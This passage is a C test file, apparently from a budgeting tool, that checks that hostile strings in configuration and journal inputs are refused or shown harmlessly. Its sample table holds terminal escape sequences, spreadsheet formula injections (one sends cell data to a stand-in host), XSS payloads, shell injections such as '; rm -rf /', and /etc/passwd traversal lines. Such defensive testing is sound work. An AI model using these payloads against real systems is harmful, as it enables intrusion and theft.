/* Text from people who wish the reader ill, in every place where text can stand, through every screen and every output: it moves no cursor, hides
 * and moves no figure, runs in no spreadsheet and ends no line. Each string goes through real files: what region.cfg, organisation.cfg and `do`
 * refuse, they refuse with a sentence and without a trace. */
#include "testing.h"

#include "command.h"
#include "screen.h"
#include "setup.h"
#include "sheet.h"
#include "text.h"

#include <jansson.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define ID   "0123456789abcdef0123456789abcdef"
#define PATH 4300

/* ---- the strings ---- */

struct sample {
	const char *kind;
	char *text;
	bool in_settings, in_acts; /* may stand there; else it is refused */
};

static struct sample *samples;
static size_t sample_count, sample_room;

static bool has_control(const char *text, const char *allowed)
{
	for (; *text; text++)
		if (((unsigned char)*text < 0x20 || *text == 0x7f) && !strchr(allowed, *text))
			return true;
	return false;
}

/* What the format says: well-formed, and of control characters only those that have an escape. */
static void add(const char *kind, const char *text)
{
	bool valid = text_valid(text, strlen(text), NULL) && *text;

	if (sample_count == sample_room) {
		sample_room = sample_room ? 2 * sample_room : 512;
		samples = memory_grow(samples, sample_room, sizeof *samples);
	}
	samples[sample_count++] =
		(struct sample){ kind, memory_string(text), valid && !has_control(text, "\n\t"), valid && !has_control(text, "\n\t") };
}

static void add_around(const char *kind, const char *text)
{
	char whole[600];

	snprintf(whole, sizeof whole, "%sa", text);
	add(kind, whole);
	snprintf(whole, sizeof whole, "a%sb 1 234,5", text);
	add(kind, whole);
}

static size_t utf8(unsigned point, char out[5])
{
	static const struct {
		unsigned below, lead;
		size_t size;
	} forms[] = { { 0x80, 0, 1 }, { 0x800, 0xc0, 2 }, { 0x10000, 0xe0, 3 }, { ~0U, 0xf0, 4 } };
	size_t i = 0, size;

	while (point >= forms[i].below)
		i++;
	size = forms[i].size;
	for (size_t at = size; at-- > 1; point >>= 6)
		out[at] = (char)(0x80 | (point & 0x3f));
	out[0] = (char)(forms[i].lead | point);
	out[size] = '\0';
	return size;
}

static void add_points(const char *kind, unsigned first, unsigned last, unsigned step)
{
	for (unsigned point = first; point <= last; point += step) {
		char text[5];

		utf8(point, text);
		add_around(kind, text);
	}
}

static void add_flood(const char *kind, const char *before, const char *flood, size_t count)
{
	struct buffer text = { 0 };

	buffer_text(&text, before);
	for (size_t i = 0; i < count; i++)
		buffer_text(&text, flood);
	add(kind, text.bytes);
	buffer_free(&text);
}

static const struct {
	const char *kind, *text;
} written[] = {
	{ "ansi", "\033[2J\033[H" },
	{ "ansi", "a\033[31mröd\033[0m" },
	{ "ansi", "\033[10;10H999,9" },
	{ "ansi", "\033[8mdolt\033[28m" },
	{ "ansi", "\033[?1049h" },
	{ "ansi", "\033[6n" },
	{ "ansi", "\033c" },
	{ "ansi", "\033#8" },
	{ "ansi", "\033(0lqqk" },
	{ "ansi", "\033[1A\033[2K" },
	{ "osc", "\033]0;titel\007" },
	{ "osc", "\033]52;c;cm0gLXJm\007" },
	{ "osc", "\033]8;;http://x\033\\länk\033]8;;\033\\" },
	{ "osc", "\033]1337;File=x\007" },
	{ "dcs", "\033P$q\"p\033\\" },
	{ "dcs", "\033P+q544e\033\\" },
	{ "apc", "\033_Gi=1;AAAA\033\\" },
	{ "pm", "\033^x\033\\" },
	{ "sos", "\033Xx\033\\" },
	{ "c1 csi", "\xc2\x9b"
		    "2J" },
	{ "c1 osc", "\xc2\x9d"
		    "0;x\xc2\x9c" },
	{ "c1 dcs", "\xc2\x90"
		    "x\xc2\x9c" },
	{ "c1 raw", "a\x9b"
		    "2J" },
	{ "nel", "a\xc2\x85"
		 "b" },
	{ "bell", "a\007" },
	{ "backspace", "9\b8" },
	{ "return", "1 000,0\r9 999,9" },
	{ "del", "a\177b" },
	{ "form", "a\fb\vc" },
	{ "shift", "a\016lqk\017" },
	{ "bidi", "\xe2\x80\xae"
		  "5,4321"
		  "\xe2\x80\xac" },
	{ "bidi", "\xe2\x81\xa6\xe2\x80\xae"
		  "dolt" },
	{ "bidi", "abc\xe2\x80\x8f"
		  "123" },
	{ "isolate", "\xe2\x81\xa7\xe2\x81\xa8\xe2\x81\xa9" },
	{ "zero width only", "\xe2\x80\x8b\xe2\x80\x8b\xe2\x80\x8b" },
	{ "zero width", "No\xe2\x80\x8brr" },
	{ "joiner", "a\xe2\x80\x8d"
		    "b" },
	{ "joiner first", "\xe2\x80\x8d"
			  "b" },
	{ "bom", "\xef\xbb\xbf"
		 "a" },
	{ "soft hyphen", "a\xc2\xad"
			 "b" },
	{ "hangul filler", "\xe3\x85\xa4" },
	{ "blank only", " " },
	{ "nbsp only", "\xc2\xa0" },
	{ "ideographic space", "\xe3\x80\x80" },
	{ "em spaces", "\xe2\x80\x83\xe2\x80\x83" },
	{ "line separator", "a\xe2\x80\xa8"
			    "b" },
	{ "paragraph separator", "a\xe2\x80\xa9"
				 "b" },
	{ "ogham space", "\xe1\x9a\x80" },
	{ "surrogate", "a\xed\xa0\x80"
		       "b" },
	{ "surrogate", "\xed\xbf\xbf" },
	{ "surrogate pair", "\xed\xa0\xbd\xed\xb8\x80" },
	{ "overlong", "a\xc0\x80"
		      "b" },
	{ "overlong", "\xc0\xaf" },
	{ "overlong", "\xe0\x80\xaf" },
	{ "overlong", "\xf0\x80\x80\xaf" },
	{ "overlong esc", "\xc0\x9b[2J" },
	{ "beyond", "\xf4\x90\x80\x80" },
	{ "beyond", "\xf8\x88\x80\x80\x80" },
	{ "beyond", "\xfe\xff" },
	{ "cut short", "a\xc3" },
	{ "cut short", "a\xe2\x82" },
	{ "cut short", "\xf0\x9f\x98" },
	{ "stray", "\x80\xbf" },
	{ "latin1", "\xe5\xe4\xf6" },
	{ "rtl", "\xd8\xa7\xd9\x84\xd9\x85\xd9\x8a\xd8\xb2\xd8\xa7\xd9\x86\xd9\x8a\xd8\xa9" },
	{ "rtl", "\xd7\xaa\xd7\xa7\xd7\xa6\xd7\x99\xd7\x91 123" },
	{ "arabic digits", "\xd9\xa1\xd9\xa2\xd9\xa3" },
	{ "arabic ligature", "\xef\xb7\xbd" },
	{ "wide", "\xe6\x97\xa5\xe6\x9c\xac\xe8\xaa\x9e" },
	{ "fullwidth", "\xef\xbc\x91\xef\xbc\x92\xef\xbc\x8c\xef\xbc\x93" },
	{ "halfwidth", "\xef\xbe\x9e\xef\xbe\x9f" },
	{ "hangul jamo", "\xe1\x84\x80\xe1\x85\xa1\xe1\x86\xa8" },
	{ "family", "\xf0\x9f\x91\xa8\xe2\x80\x8d\xf0\x9f\x91\xa9\xe2\x80\x8d\xf0\x9f\x91\xa7\xe2\x80\x8d\xf0\x9f\x91\xa6" },
	{ "skin", "\xf0\x9f\x91\x8d\xf0\x9f\x8f\xbd" },
	{ "flag", "\xf0\x9f\x87\xb8\xf0\x9f\x87\xaa" },
	{ "half flag", "\xf0\x9f\x87\xb8" },
	{ "keycap", "1\xef\xb8\x8f\xe2\x83\xa3" },
	{ "flag tags", "\xf0\x9f\x8f\xb4\xf3\xa0\x81\xa7\xf3\xa0\x81\xa2\xf3\xa0\x81\xbf" },
	{ "heart", "\xe2\x9d\xa4\xef\xb8\x8f" },
	{ "decomposed", "A\xcc\x8a"
			"A\xcc\x88"
			"O\xcc\x88" },
	{ "mark first", "\xcc\x8a"
			"a" },
	{ "enclosing", "1\xe2\x83\x9d" },
	{ "cuneiform", "\xf0\x92\x90\xab\xf0\x92\x88\x99" },
	{ "basmala", "\xef\xb7\xbd\xef\xb7\xbd\xef\xb7\xbd" },
	{ "thai", "\xe0\xb8\x81\xe0\xb9\x87\xe0\xb9\x87\xe0\xb9\x87" },
	{ "devanagari", "\xe0\xa4\x95\xe0\xa5\x8d\xe0\xa4\xb7\xe0\xa4\xbf" },
	{ "formula", "=cmd|' /C calc'!A0" },
	{ "formula", "=1+1" },
	{ "formula", "+1" },
	{ "formula", "-1" },
	{ "formula", "@SUM(A1)" },
	{ "formula", "@x" },
	{ "formula", "=" },
	{ "formula", "\t=1" },
	{ "formula", "\r=1" },
	{ "formula", "\n=1" },
	{ "formula", " =1+1" },
	{ "formula", "'=1" },
	{ "formula", "\"=1" },
	{ "formula", "a;=1" },
	{ "formula", "a\n=1" },
	{ "formula", "=HYPERLINK(\"http://x\";\"y\")" },
	{ "formula", "=WEBSERVICE(\"http://x/?\"&A1)" },
	{ "formula", "+cmd|'x'!A" },
	{ "formula", "-2+3+cmd|' /C calc'!A0" },
	{ "formula", "%0A=1" },
	{ "formula", "\xef\xbc\x9d"
		     "1+1" },
	{ "formula", "\xef\xbc\x8b"
		     "1" },
	{ "formula", "\xef\xbc\x8d"
		     "1" },
	{ "formula", "\xef\xbc\xa0"
		     "x" },
	{ "formula", "\xe2\x88\x92"
		     "1" },
	{ "formula", "\xe2\x80\x8b=1+1" },
	{ "formula", "\xef\xbb\xbf=1+1" },
	{ "formula", "\xc2\xa0=1+1" },
	{ "separator", "sep=," },
	{ "separator", "a;b" },
	{ "separator", "a,b" },
	{ "separator", "a|b" },
	{ "separator", "a\tb" },
	{ "separator", ";" },
	{ "separator", "|" },
	{ "quote", "\"" },
	{ "quote", "\"\"" },
	{ "quote", "'" },
	{ "quote", "a\"b" },
	{ "quote", "\";\"" },
	{ "quote", "\\" },
	{ "quote", "\\\"" },
	{ "quote", "a\\" },
	{ "newline", "a\nb" },
	{ "newline", "\n" },
	{ "newline", "a\n" },
	{ "newline", "a\n\n\n\nb" },
	{ "newline", "a\r\nb" },
	{ "tab", "\ta" },
	{ "tab", "\t" },
	{ "html", "<script>alert(1)</script>" },
	{ "html", "<img src=x onerror=alert(1)>" },
	{ "html", "\"><svg/onload=x>" },
	{ "html", "&lt;b&gt;" },
	{ "html", "</td></tr>" },
	{ "html", "javascript:alert(1)" },
	{ "html", "<!--" },
	{ "html", "]]>" },
	{ "html", "<?xml?>" },
	{ "html", "&#x202e;" },
	{ "markdown", "# rubrik" },
	{ "markdown", "**fet**" },
	{ "markdown", "[x](http://y)" },
	{ "markdown", "![x](http://y)" },
	{ "markdown", "`kod`" },
	{ "markdown", "```" },
	{ "markdown", "| a | b |" },
	{ "markdown", "- a" },
	{ "markdown", "1. a" },
	{ "markdown", "> a" },
	{ "markdown", "---" },
	{ "markdown", "~~a~~" },
	{ "markdown", "a\\|b" },
	{ "markdown", "<b>a</b>" },
	{ "markdown", "\\" },
	{ "markdown", "_a_" },
	{ "markdown", "http://x.se" },
	{ "format", "%s%s%s%n" },
	{ "format", "%1$*2$d" },
	{ "format", "{0}" },
	{ "shell", "$(reboot)" },
	{ "shell", "`reboot`" },
	{ "shell", "; rm -rf /" },
	{ "shell", "a' b" },
	{ "json", "\",\"kr\":9999999,\"x\":\"" },
	{ "json", "{\"n\":1" },
	{ "json", "\\u0000" },
	{ "json", "\",\"hash\":\"0\"}" },
	{ "json", "null" },
	{ "settings", "\"; protection = \"none" },
	{ "settings", "@include \"/etc/passwd\"" },
	{ "settings", "/* " },
	{ "settings", "// x" },
	{ "settings", "# x" },
	{ "path", "../../etc/passwd" },
	{ "path", "/dev/null" },
	{ "path", "." },
	{ "path", "CON" },
	{ "figures", "KVAR ATT F\xc3\x96RDELA 0,0" },
	{ "figures", "9 999,9" },
	{ "figures", "   9 999,9   8 888,8" },
	{ "figures", "9\xc2\xa0"
		     "999,9" },
	{ "figures", "- 12,0 mnkr" },
	{ "boxes", "\xe2\x94\x80\xe2\x94\x80\xe2\x94\x80\xe2\x94\x80" },
	{ "boxes", "\xe2\x96\x88\xe2\x96\x88\xe2\x96\x88" },
	{ "boxes", "\xe2\x96\xb8 \xe2\x97\x8f \xe2\x97\x82" },
	{ "noncharacter", "\xef\xbf\xbe" },
	{ "noncharacter", "\xef\xbf\xbf" },
	{ "noncharacter", "\xef\xb7\x90" },
	{ "replacement", "\xef\xbf\xbd" },
	{ "private", "\xee\x80\x80" },
	{ "private", "\xf3\xb0\x80\x80" },
	{ "annotation", "\xef\xbf\xb9"
			"a\xef\xbf\xba"
			"b\xef\xbf\xbb" },
	{ "empty", "" },
};

static void add_floods(void)
{
	static const char *const marks[] = { "\xcc\x80",     "\xcd\x82",     "\xd2\x89",     "\xe2\x83\x9d", "\xd9\x91",
					     "\xe0\xb8\xb4", "\xef\xb8\x8f", "\xe2\x80\x8d", "\xcd\x8f" };

	for (size_t i = 0; i < sizeof marks / sizeof *marks; i++) {
		add_flood("flood", "a", marks[i], 5);
		add_flood("flood", "a", marks[i], 900);
		add_flood("flood first", "", marks[i], 40);
	}
	add_flood("long word", "", "x", 300);
	add_flood("long word", "", "x", 4000);
	add_flood("long word", "", "\xc3\xa5", 2000);
	add_flood("long wide word", "", "\xe6\x97\xa5", 1000);
	add_flood("long words", "", "ord ", 900);
	add_flood("many lines", "a", "\nrad", 60);
	add_flood("many lines", "a", "\n", 60);
	add_flood("blanks", "a", " ", 2000);
	add_flood("tabs", "a", "\t", 1000);
	add_flood("emoji", "", "\xf0\x9f\x91\xa9\xe2\x80\x8d", 300);
	add_flood("flags", "", "\xf0\x9f\x87\xb8", 301);
	add_flood("quotes", "", "\"", 1000);
	add_flood("backslashes", "", "\\", 1000);
	add_flood("pipes", "", "|", 500);
	add_flood("digits", "", "9", 1000);
}

static void make_samples(void)
{
	for (size_t i = 0; i < sizeof written / sizeof *written; i++)
		add(written[i].kind, written[i].text);
	add_points("c0", 0x01, 0x1f, 1);
	add_points("c1", 0x80, 0x9f, 1);
	add_points("del", 0x7f, 0x7f, 1);
	add_points("bidi", 0x200e, 0x200f, 1);
	add_points("bidi", 0x202a, 0x202e, 1);
	add_points("bidi", 0x2066, 0x2069, 1);
	add_points("zero width", 0x200b, 0x200d, 1);
	add_points("zero width", 0x2060, 0x2065, 1);
	add_points("old format", 0x206a, 0x206f, 1);
	add_points("variation", 0xfe00, 0xfe0f, 5);
	add_points("variation", 0xe0100, 0xe01ef, 119);
	add_points("tag", 0xe0001, 0xe007f, 18);
	add_points("musical", 0x1d173, 0x1d17a, 3);
	add_points("filler", 0x115f, 0x1160, 1);
	add_points("mongolian", 0x180b, 0x180e, 1);
	add_points("khmer", 0x17b4, 0x17b5, 1);
	add_floods();
}

static void free_samples(void)
{
	for (size_t i = 0; i < sample_count; i++)
		free(samples[i].text);
	free(samples);
}

/* ---- a region with one text everywhere: @ stands for it ---- */

static const char region_cfg[] =
	"format = 1; name = \"@\"; org_number = \"1\"; year = 2020; registrar = \"reg\"; protection = \"none\"; note = \"@\";\n"
	"levels = ( { id=\"region\"; name=\"@\"; chef=\"@\"; plan=\"@\"; subs=\"@\"; money=\"mnkr\"; due=\"2019-12-20\"; },\n"
	"  { id=\"division\"; name=\"@\"; chef=\"@\"; plan=\"@\"; subs=\"@\"; money=\"mnkr\"; } );\n"
	"kinds = ( { id=\"base\"; name=\"@\"; short=\"@\"; opening=true; explained=true; }, { id=\"expansion\"; name=\"@\"; short=\"@\"; },\n"
	"  { id=\"transfer\"; name=\"@\"; short=\"@\"; zero_sum=true; } );\n"
	"lines = ( { id=\"personal\"; name=\"@\"; kind=\"cost\"; account=\"@\"; }, { id=\"intakter\"; name=\"@\"; kind=\"income\"; "
	"account=\"@\"; },\n"
	"  { id=\"kop\"; name=\"@\"; kind=\"cost\"; account=\"@\"; internal=true; } );\n"
	"areas = ( { id=\"halso\"; name=\"@\"; } ); principles = ( { id=\"avtal\"; name=\"@\"; } ); versions = ( { id=\"dec\"; name=\"@\"; } "
	");\n";

static const char organisation_cfg[] =
	"units = ( { id=\"region\"; kind=\"unit\"; name=\"@\"; level=\"region\"; chef=\"rd\"; ekonomer=( \"eko\" ); registrars=( \"reg\" ); },\n"
	"  { id=\"delar\"; parent=\"region\"; kind=\"group\"; name=\"@\"; },\n"
	"  { id=\"norr\"; parent=\"delar\"; kind=\"unit\"; name=\"@\"; level=\"division\"; chef=\"cn\"; purpose=\"@\"; conditions=\"@\"; "
	"principle=\"avtal\"; ram_name=\"@\";\n"
	"    cost_centre=\"@\"; },\n"
	"  { id=\"norr-a\"; parent=\"norr\"; kind=\"unit\"; name=\"@\"; level=\"division\"; chef=\"ca\"; example=true; },\n"
	"  { id=\"syd\"; parent=\"delar\"; kind=\"unit\"; name=\"@\"; level=\"division\"; chef=\"cs\"; },\n"
	"  { id=\"fou\"; parent=\"region\"; kind=\"anslag\"; name=\"@\"; } );\n";

static const char published_cfg[] =
	"claims = ( { where=\"@\"; unit=\"norr\"; year=\"2020\"; cells={ base=\"4 321,1\"; ram=\"4 455,5\"; }; note=\"@\"; },\n"
	"  { where=\"@\"; stated=\"330\"; note=\"@\"; } );\n";

#define AT "\"at\":\"2019-12-10T08:30:00+01:00\","
static const char *const acts[] = {
	"{\"by\":\"reg\"," AT
	"\"id\":\"a1\",\"act\":\"post\",\"kind\":\"base\",\"year\":2020,\"legs\":[[\"region\",9876500000]],\"text\":\"@\",\"decision\":\"Se @\"}",
	"{\"by\":\"rd\"," AT "\"id\":\"a2\",\"act\":\"post\",\"kind\":\"base\",\"year\":2020,\"legs\":[[\"norr\",4321100000],[\"syd\","
			     "5000300000],[\"fou\",77700000]],\"text\":\"@\"}",
	"{\"by\":\"rd\"," AT
	"\"id\":\"a3\",\"act\":\"post\",\"kind\":\"expansion\",\"year\":2020,\"legs\":[[\"norr\",81300000]],\"text\":\"@\",\"decision\":\"Se @\","
	"\"principle\":\"avtal\",\"details\":[{\"id\":\"d1\",\"text\":\"@\",\"kr\":60200000},{\"id\":\"d2\",\"text\":\"@\",\"kr\":21100000}]}",
	"{\"by\":\"rd\"," AT
	"\"id\":\"a4\",\"act\":\"post\",\"kind\":\"transfer\",\"year\":2020,\"legs\":[[\"norr\",-13700000],[\"syd\",13700000]],\"text\":\"@\"}",
	"{\"by\":\"cn\"," AT "\"id\":\"a5\",\"act\":\"post\",\"kind\":\"base\",\"year\":2020,\"legs\":[[\"norr-a\",1212100000]],\"text\":\"@\"}",
	"{\"by\":\"cn\"," AT "\"id\":\"a6\",\"act\":\"distribute\",\"unit\":\"norr\",\"year\":2020,\"lines\":[{\"line\":\"personal\",\"kr\":"
			     "3100400000,\"hold\":\"@\","
	"\"details\":[{\"id\":\"d1\",\"text\":\"@\",\"kr\":100000}]},{\"line\":\"intakter\",\"kr\":20500000},{\"line\":\"kop\",\"kr\":44400000,"
	"\"counterpart\":\"syd\"}],"
	"\"why\":\"@\",\"decision\":\"Se @\",\"batch\":\"@\"}",
	"{\"by\":\"rd\"," AT "\"id\":\"a7\",\"act\":\"say\",\"unit\":\"norr\",\"kind\":\"question\",\"about\":\"norr/2020/ram\",\"text\":\"@\"}",
	"{\"by\":\"cn\"," AT "\"id\":\"a8\",\"act\":\"say\",\"unit\":\"norr\",\"thread\":\"a7\",\"kind\":\"agreement\",\"text\":\"@\",\"kr\":"
			     "5500000,\"who\":\"@\",\"status\":\"open\"}",
	"{\"by\":\"cn\"," AT "\"id\":\"a9\",\"act\":\"forecast\",\"unit\":\"norr\",\"year\":2020,\"month\":3,\"lines\":[{\"line\":\"personal\","
			     "\"kr\":3150600000}],\"text\":\"@\"}",
	"{\"by\":\"cn\"," AT "\"id\":\"b1\",\"act\":\"say\",\"unit\":\"norr\",\"kind\":\"note\",\"text\":\"@\"}",
	"{\"by\":\"cn\"," AT "\"id\":\"b2\",\"act\":\"say\",\"unit\":\"norr\",\"kind\":\"comment\",\"kr\":1,\"explains\":\"norr/2020/ram\",\"text\":\"@\"}",
	"{\"by\":\"cn\"," AT "\"id\":\"b3\",\"act\":\"say\",\"unit\":\"norr\",\"kind\":\"proposal\",\"with\":\"syd\",\"kr\":1,\"text\":\"@\"}",
	"{\"by\":\"cs\"," AT "\"id\":\"b4\",\"act\":\"confirm\",\"unit\":\"syd\",\"entry\":\"b3\"}",
	"{\"by\":\"rd\"," AT "\"id\":\"b5\",\"act\":\"resolve\",\"unit\":\"norr\",\"thread\":\"a7\",\"text\":\"@\"}",
	"{\"by\":\"cn\"," AT "\"id\":\"b6\",\"act\":\"submit\",\"unit\":\"norr\",\"year\":2020,\"text\":\"Se @\"}",
	"{\"by\":\"rd\"," AT "\"id\":\"b7\",\"act\":\"return\",\"unit\":\"norr\",\"submit\":\"b6\",\"text\":\"Se @\",\"decision\":\"@\","
	"\"marks\":[{\"figure\":\"norr/2020/line.personal\",\"text\":\"@\"}]}",
	"{\"by\":\"cn\"," AT "\"id\":\"b8\",\"act\":\"submit\",\"unit\":\"norr\",\"year\":2020,\"text\":\"Se @\"}",
	"{\"by\":\"cn\"," AT "\"id\":\"b9\",\"act\":\"recall\",\"unit\":\"norr\",\"submit\":\"b8\",\"text\":\"@\"}",
	"{\"by\":\"cn\"," AT "\"id\":\"c1\",\"act\":\"submit\",\"unit\":\"norr\",\"year\":2020,\"text\":\"Se @\"}",
	"{\"by\":\"rd\"," AT "\"id\":\"c2\",\"act\":\"approve\",\"unit\":\"norr\",\"submit\":\"c1\",\"text\":\"@\",\"decision\":\"@\"}",
};
#define ACTS (sizeof acts / sizeof *acts)

/* As configuration spells it: what has no escape there goes in as it is, to be refused. */
static void spell_settings(struct buffer *out, const char *text)
{
	for (; *text; text++)
		switch (*text) {
		case '"':
			buffer_text(out, "\\\"");
			break;
		case '\\':
			buffer_text(out, "\\\\");
			break;
		case '\n':
			buffer_text(out, "\\n");
			break;
		case '\t':
			buffer_text(out, "\\t");
			break;
		default:
			buffer_add(out, text, 1);
		}
}

/* As JSON spells it, where every control character has an escape. */
static void spell_json(struct buffer *out, const char *text)
{
	for (; *text; text++)
		if (*text == '"' || *text == '\\')
			buffer_format(out, "\\%c", *text);
		else if ((unsigned char)*text < 0x20)
			buffer_format(out, "\\u%04x", (unsigned)*text);
		else
			buffer_add(out, text, 1);
}

static void fill(struct buffer *out, const char *form, const char *text, void (*spell)(struct buffer *, const char *))
{
	for (const char *at; (at = strchr(form, '@')); form = at + 1) {
		buffer_add(out, form, (size_t)(at - form));
		spell(out, text);
	}
	buffer_text(out, form);
}

struct place {
	char *scratch, folder[PATH];
};

static void write_filled(const struct place *place, const char *name, const char *form, const char *text)
{
	struct buffer out = { 0 };
	char path[PATH + 40];

	fill(&out, form, text, spell_settings);
	snprintf(path, sizeof path, "%s/%s", place->scratch, name);
	testing_write(path, out.bytes, out.size);
	buffer_free(&out);
}

static const char harmless[] = "Namn";
static const struct sample plain = { "harmless", (char *)(uintptr_t)harmless, true, true };

static struct place place_new(void)
{
	struct place place = { .scratch = testing_directory() };

	snprintf(place.folder, sizeof place.folder, "%s/f", place.scratch);
	return place;
}

static bool set_up(struct place *place, const char *region, const char *organisation, const char *published, struct error *error)
{
	size_t count;

	write_filled(place, "region.cfg", region_cfg, region);
	write_filled(place, "organisation.cfg", organisation_cfg, organisation);
	write_filled(place, "published.cfg", published_cfg, published);
	return setup_init(place->folder, place->scratch, ID, &count, error);
}

static bool act(struct place *place, const char *form, const char *text, struct error *error)
{
	struct folder *folder = folder_open(place->folder, error);
	struct buffer line = { 0 };
	size_t written_lines;
	bool done;

	expect(folder, "%s", error->text);
	fill(&line, form, text, spell_json);
	done = setup_do(folder, NULL, line.bytes, line.size, &written_lines, error);
	buffer_free(&line);
	folder_free(folder);
	return done;
}

static void act_all(struct place *place, const struct sample *sample)
{
	struct buffer lines = { 0 };
	struct error error = { 0 };

	for (size_t i = 0; i < ACTS; i++)
		buffer_format(&lines, "%s\n", acts[i]);
	expect(act(place, lines.bytes, sample->text, &error), "%s: %s", sample->kind, error.text);
	buffer_free(&lines);
}

static void place_free(struct place *place)
{
	testing_remove(place->scratch);
}

/* ---- what may be said and shown ---- */

static size_t count_of(const char *text, char wanted)
{
	size_t count = 0;

	for (; *text; text++)
		count += *text == wanted;
	return count;
}

/* Lines of well-formed text that made harmless is the same: nothing hidden, nothing that moves. */
static void expect_lines(const char *kind, const char *where, const char *text)
{
	struct buffer line = { 0 }, shown = { 0 };

	for (const char *end; *text; text = *end ? end + 1 : end) {
		end = text + strcspn(text, "\n");
		buffer_free(&line);
		buffer_free(&shown);
		buffer_add(&line, text, (size_t)(end - text));
		if (!line.size)
			continue;
		text_harmless(&shown, line.bytes);
		expect(!strcmp(shown.bytes, line.bytes), "%s, %s: «%s» är inte «%s»", kind, where, line.bytes, shown.bytes);
	}
	buffer_free(&line);
	buffer_free(&shown);
}

/* The same, but for how many marks stand on one base: data for programs keep them all. */
static void expect_characters(const char *kind, const char *where, const char *text)
{
	for (size_t size; *text; text += size) {
		char one[8] = "a";

		for (size = 1; ((unsigned char)text[size] & 0xc0) == 0x80 && size < 5;)
			size++;
		memcpy(one + 1, text, size);
		if (*text != '\n')
			expect_lines(kind, where, one);
	}
}

static void expect_sentence(const struct sample *sample, const char *where, const struct error *error)
{
	expect(error->word && strlen(error->text) > 10, "%s, %s: «%s»", sample->kind, where, error->text);
	expect_lines(sample->kind, where, error->text);
	expect(!strchr(error->text, '\n'), "%s, %s: «%s»", sample->kind, where, error->text);
}

/* ---- what is refused ---- */

static void settings_refuse(const struct sample *sample)
{
	static const struct {
		const char *file;
		int region, organisation, published;
	} rows[] = {
		{ "region.cfg", 1, 0, 0 }, { "organisation.cfg", 0, 1, 0 }, { "published.cfg", 0, 0, 1 },
	}, *row;

	for (EACH(row, rows)) {
		struct place place = place_new();
		struct error error = { 0 };

		expect(!set_up(&place, row->region ? sample->text : harmless, row->organisation ? sample->text : harmless,
			       row->published ? sample->text : harmless, &error),
		       "%s i %s", sample->kind, row->file);
		expect_sentence(sample, row->file, &error);
		expect(!strncmp(error.text, row->file, strlen(row->file)), "%s: %s", sample->kind, error.text);
		expect(access(place.folder, F_OK) != 0, "%s i %s: något blev kvar", sample->kind, row->file);
		place_free(&place);
	}
}

static void acts_refuse(struct place *place, const struct sample *sample)
{
	for (size_t i = 0; i < ACTS; i++) {
		struct error error = { 0 };

		expect(!act(place, acts[i], sample->text, &error), "%s i %.60s", sample->kind, acts[i]);
		expect_sentence(sample, "do", &error);
	}
}

static off_t sizes(const struct place *place)
{
	static const char *const users[] = { "reg", "rd", "cn" };
	off_t sum = 0;

	for (size_t i = 0; i < sizeof users / sizeof *users; i++) {
		char path[PATH + 40];
		struct stat found;

		snprintf(path, sizeof path, "%s/journals/%s.jsonl", place->folder, users[i]);
		assert_int_equal(stat(path, &found), 0);
		sum += found.st_size;
	}
	return sum;
}

static void what_has_no_place_is_refused_without_a_trace(void **state)
{
	struct place place = place_new();
	struct error error = { 0 };
	size_t refused = 0;
	off_t before;

	(void)state;
	expect(set_up(&place, harmless, harmless, harmless, &error), "%s", error.text);
	before = sizes(&place);
	for (size_t i = 0; i < sample_count; i++) {
		if (!samples[i].in_settings)
			settings_refuse(&samples[i]);
		if (!samples[i].in_acts && *samples[i].text)
			acts_refuse(&place, &samples[i]);
		refused += !samples[i].in_acts;
	}
	assert_int_equal(sizes(&place), before);
	assert_true(refused > 50);
	place_free(&place);
}

/* ---- where an id, a key or a word of the command line should be: it is named in the sentence, harmless ---- */

static const char *const acts_with_ids[] = {
	"{\"by\":\"cn\",\"act\":\"say\",\"unit\":\"@\",\"kind\":\"note\",\"text\":\"x\"}",
	"{\"by\":\"cn\",\"act\":\"say\",\"unit\":\"norr\",\"kind\":\"@\",\"text\":\"x\"}",
	"{\"by\":\"@\",\"act\":\"say\",\"unit\":\"norr\",\"kind\":\"note\",\"text\":\"x\"}",
	"{\"by\":\"cn\",\"act\":\"@\",\"unit\":\"norr\"}",
	"{\"by\":\"cn\",\"id\":\"@\",\"act\":\"say\",\"unit\":\"norr\",\"kind\":\"note\",\"text\":\"x\"}",
	"{\"by\":\"cn\",\"at\":\"@\",\"act\":\"say\",\"unit\":\"norr\",\"kind\":\"note\",\"text\":\"x\"}",
	"{\"by\":\"cn\",\"act\":\"say\",\"unit\":\"norr\",\"kind\":\"note\",\"text\":\"x\",\"@\":1}",
	"{\"by\":\"cn\",\"act\":\"distribute\",\"unit\":\"norr\",\"year\":2020,\"lines\":[{\"line\":\"@\",\"kr\":1}]}",
	"{\"by\":\"rd\",\"act\":\"post\",\"kind\":\"@\",\"year\":2020,\"legs\":[[\"norr\",1]]}",
	"{\"by\":\"rd\",\"act\":\"post\",\"kind\":\"base\",\"year\":2020,\"legs\":[[\"@\",1]]}",
	"{\"by\":\"rd\",\"act\":\"post\",\"kind\":\"base\",\"year\":2020,\"legs\":[[\"norr\",1]],\"replaces\":\"@\"}",
	"@",
};

static const char organisation_with_id[] = "units = ( { id=\"@\"; kind=\"unit\"; name=\"N\"; level=\"region\"; chef=\"rd\"; } );\n";
static const char organisation_with_level[] = "units = ( { id=\"region\"; kind=\"unit\"; name=\"N\"; level=\"@\"; chef=\"rd\"; } );\n";
static const char organisation_with_chef[] = "units = ( { id=\"region\"; kind=\"unit\"; name=\"N\"; level=\"region\"; chef=\"@\"; } );\n";

static void ids_refuse_settings(const struct sample *sample)
{
	static const char *const forms[] = { organisation_with_id, organisation_with_level, organisation_with_chef };

	for (size_t i = 0; i < sizeof forms / sizeof *forms; i++) {
		struct place place = place_new();
		struct error error = { 0 };
		size_t count;

		write_filled(&place, "region.cfg", region_cfg, harmless);
		write_filled(&place, "organisation.cfg", forms[i], sample->text);
		expect(!setup_init(place.folder, place.scratch, ID, &count, &error), "%s i %s", sample->kind, forms[i]);
		expect_sentence(sample, "organisation.cfg", &error);
		place_free(&place);
	}
}

static void words_refuse(const struct place *place, const struct sample *sample)
{
	const struct { const char *words[6]; } rows[] = {
		{ { sample->text, NULL } },
		{ { "why", sample->text, place->folder, NULL } },
		{ { "why", "norr", sample->text, place->folder, NULL } },
		{ { "report", sample->text, place->folder, NULL } },
		{ { "report", "ram", place->folder, "--unit", sample->text, NULL } },
		{ { "report", "ram", place->folder, "--format", sample->text, NULL } },
		{ { "report", "ram", place->folder, "--year", sample->text, NULL } },
		{ { "log", place->folder, "--since", sample->text, NULL } },
